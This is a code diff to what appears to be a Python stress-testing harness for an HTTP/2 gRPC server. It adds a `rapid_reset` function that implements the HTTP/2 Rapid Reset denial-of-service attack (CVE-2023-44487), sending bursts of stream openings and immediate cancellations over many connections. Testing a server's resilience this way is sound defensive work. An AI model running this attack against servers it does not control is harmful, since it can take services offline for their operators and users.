@@ -9,6 +9,7 @@ holds them for `seconds`, then closes everything:
 - "flood": a `body_mb` message sent as fast as HTTP/2 flow control lets it go.
 `token=None` sends no authorization header; any other string is sent as the bearer token.
 `hold_idle` opens connections that start no call at all: half send nothing, half only the HTTP/2 preface.
+`rapid_reset` opens calls and resets them at once (CVE-2023-44487), as fast as the server reads them.
 """
 
 from __future__ import annotations
@@ -215,6 +216,45 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
         task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
     return tally
+
+
+async def rapid_reset(address: str, path: str, connections: int, seconds: float, batch: int = 50) -> int:
+    """On each of `connections` connections, HEADERS then RST_STREAM(CANCEL) on stream after stream, in
+    batches of `batch`, for `seconds`; returns how many calls were opened and reset."""
+    host, port = address.rsplit(":", 1)
+    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
+                          ("content-type", "application/grpc"), ("te", "trailers")])
+    end = asyncio.get_running_loop().time() + seconds
+    sent = 0
+
+    async def drain_replies(reader: asyncio.StreamReader) -> None:
+        while await reader.read(65536):
+            pass
+
+    async def one() -> None:
+        nonlocal sent
+        reader, writer = await asyncio.open_connection(host, int(port))
+        replies = asyncio.ensure_future(drain_replies(reader))
+        writer.write(PREFACE + frame(SETTINGS, 0, 0))
+        stream = 1
+        try:
+            while asyncio.get_running_loop().time() < end and stream < 2**30:
+                burst = bytearray()
+                for _ in range(batch):
+                    burst += frame(HEADERS, END_HEADERS, stream, block)
+                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
+                    stream += 2
+                writer.write(bytes(burst))
+                await writer.drain()
+                sent += batch
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            replies.cancel()
+            writer.close()
+
+    await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
+    return sent
 
 
 class PeakRss:
